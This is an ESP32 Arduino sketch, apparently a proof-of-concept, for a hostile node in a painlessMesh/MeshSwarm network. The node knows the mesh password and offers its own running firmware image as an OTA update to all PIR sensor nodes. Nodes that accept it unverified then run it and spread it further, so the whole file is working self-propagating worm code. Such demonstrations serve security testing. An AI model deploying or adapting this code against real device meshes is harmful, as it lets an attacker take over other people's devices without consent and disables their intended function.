// A hostile member of the mesh: it knows the password, and offers the image that it runs itself to all PIR nodes, as any
// painlessMesh sender may. A node that takes it keeps it without a test, passes as a PIR node, and hands it on.
#include <MeshSwarm.h>
#include <esp_ota_ops.h>
#include <esp_partition.h>

MESHSWARM_IMAGE("pir", FIRMWARE_VERSION)

static const size_t kPartSize = 1024;

MeshSwarm swarm;

size_t readPart(painlessmesh::plugin::ota::DataRequest request, char* buffer) {
  const size_t all = ESP.getSketchSize();
  const size_t at = request.partNo * kPartSize;
  if (request.md5 != ESP.getSketchMD5() || at >= all) return 0;
  const size_t size = all - at < kPartSize ? all - at : kPartSize;
  return esp_partition_read(esp_ota_get_running_partition(), at, buffer, size) == ESP_OK ? size : 0;
}

// The board that it came with was flashed over serial; all others have it from the mesh, in their second slot.
bool atHome() { return esp_ota_get_running_partition()->subtype == ESP_PARTITION_SUBTYPE_APP_OTA_0; }

void setup() {
  Serial.begin(115200);
  esp_ota_mark_app_valid_cancel_rollback();
  swarm.begin();
  if (!atHome()) swarm.enableOTAReceive("pir");
  painlessMesh& mesh = swarm.getMesh();
  mesh.initOTASend(readPart, kPartSize);
  mesh.offerOTA("pir", "ESP32", ESP.getSketchMD5(), (ESP.getSketchSize() + kPartSize - 1) / kPartSize);
}

void loop() { swarm.update(); }
